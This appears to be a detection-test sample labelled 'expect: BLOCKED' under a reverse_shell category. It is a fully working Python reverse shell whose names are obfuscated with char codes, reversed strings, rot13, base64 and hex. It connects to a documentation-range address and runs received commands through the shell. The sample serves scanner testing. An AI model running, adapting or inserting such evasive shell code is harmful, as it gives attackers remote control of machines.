# expect: BLOCKED category: reverse_shell variant-of: risky/reverse_shell/c2_loop.py technique: encode+getattr
socket = __import__(''.join(map(chr, [115, 111, 99, 107, 101, 116])))
subprocess = __import__('ssecorpbus'[::-1])

def serve(sock):
    while True:
        command = getattr(sock, __import__('codecs').decode('erpi', 'rot13'))(4096).decode().strip()
        if not command:
            break
        result = getattr(subprocess, ''.join(['r', 'u', 'n']))(command, shell=True, capture_output=True)
        getattr(sock, __import__('base64').b64decode('c2VuZGFsbA==').decode())(result.stdout + result.stderr)
client = getattr(socket, bytes.fromhex('736f636b6574').decode())()
getattr(client, 'tcennoc'[::-1])((getattr(bytes, ''.join(map(chr, [102, 114, 111, 109, 104, 101, 120])))('3230332e302e3131332e35').decode(), 8443))
serve(client)
